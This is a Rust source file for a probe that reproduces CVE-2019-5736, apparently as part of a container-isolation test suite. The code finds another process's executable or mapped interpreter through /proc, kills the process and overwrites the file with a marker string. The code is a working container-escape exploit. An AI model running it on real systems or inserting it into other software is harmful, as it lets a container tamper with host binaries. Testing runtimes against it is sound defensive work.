//! `probe steal-exe exe|map SECS`: CVE-2019-5736 as a process in a container plays it. It waits
//! for another process in its pid namespace whose executable (`exe`: /proc/PID/exe) or whose
//! mapped interpreter (`map`: /proc/PID/map_files, which needs CAP_CHECKPOINT_RESTORE) is some
//! file other than the probe and the process's own program, holds that file by an O_PATH fd,
//! kills the process, and once the file is no longer busy, opens it for writing through the fd
//! and writes to it. Prints what each step gave as one JSON line; exits 0 either way.

use serde_json::{json, Value};
use std::ffi::CString;
use std::fs;
use std::io;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::{Duration, Instant};

pub fn steal(mode: &str, secs: u64) -> Value {
    let deadline = Instant::now() + Duration::from_secs(secs);
    let me = std::process::id() as i32;
    let own = open_path("/proc/self/exe").ok().and_then(|fd| file_id(&fd));
    while Instant::now() < deadline {
        for pid in pids().into_iter().filter(|p| *p != me) {
            if let Some((fd, via)) = target(pid, mode, own) {
                return attack(pid, &fd, via, deadline);
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    json!({ "found": false })
}

fn attack(pid: i32, fd: &OwnedFd, via: String, deadline: Instant) -> Value {
    let held = fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd()))
        .map(|p| p.to_string_lossy().into_owned())
        .unwrap_or_default();
    // SAFETY: kill(2) on a pid of our namespace.
    unsafe { libc::kill(pid, libc::SIGKILL) };
    // The file stays busy (ETXTBSY) for as long as the process maps it.
    let opened = loop {
        match fs::OpenOptions::new()
            .write(true)
            .open(format!("/proc/self/fd/{}", fd.as_raw_fd()))
        {
            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(1))
            }
            other => break other,
        }
    };
    let (open, write) = match opened {
        Err(e) => (e.to_string(), Value::Null),
        Ok(file) => {
            let written = std::os::unix::fs::FileExt::write_at(&file, b"PWNED", 0);
            ("ok".to_string(), json!(written.map(|_| "ok".to_string()).unwrap_or_else(|e| e.to_string())))
        }
    };
    json!({ "found": true, "pid": pid, "via": via, "held": held, "open": open, "write": write })
}

/// The file to steal from `pid`, if it shows one yet (a non-dumpable process does not).
fn target(pid: i32, mode: &str, own: Option<(u64, u64)>) -> Option<(OwnedFd, String)> {
    let exe = open_path(&format!("/proc/{pid}/exe")).ok()?;
    let program = file_id(&exe);
    if program == own {
        return None;
    }
    if mode == "exe" {
        return Some((exe, format!("/proc/{pid}/exe")));
    }
    let maps = fs::read_to_string(format!("/proc/{pid}/maps")).ok()?;
    maps.lines()
        .filter(|l| l.split_whitespace().nth(5).is_some_and(|p| p.starts_with('/')))
        .filter_map(|l| l.split_whitespace().next()?.split_once('-'))
        // maps pads addresses to 8 digits (a non-PIE's 00200000), map_files' names do not.
        .filter_map(|(start, end)| {
            let hex = |a: &str| u64::from_str_radix(a, 16).ok();
            Some(format!("/proc/{pid}/map_files/{:x}-{:x}", hex(start)?, hex(end)?))
        })
        .find_map(|link| {
            let fd = open_path(&link).ok()?;
            let id = file_id(&fd);
            (id != program && id != own).then_some((fd, link))
        })
}

fn pids() -> Vec<i32> {
    fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse().ok())
        .collect()
}

fn open_path(path: &str) -> io::Result<OwnedFd> {
    let c = CString::new(path)?;
    // SAFETY: open(2) with a NUL-terminated path; returns a new fd or -1.
    let fd = unsafe { libc::open(c.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: the fd was just returned to us.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

fn file_id(fd: &OwnedFd) -> Option<(u64, u64)> {
    // SAFETY: fstat fills a zeroed stat for a valid fd.
    let mut st: libc::stat = unsafe { std::mem::zeroed() };
    (unsafe { libc::fstat(fd.as_raw_fd(), &mut st) } == 0).then_some((st.st_dev, st.st_ino))
}
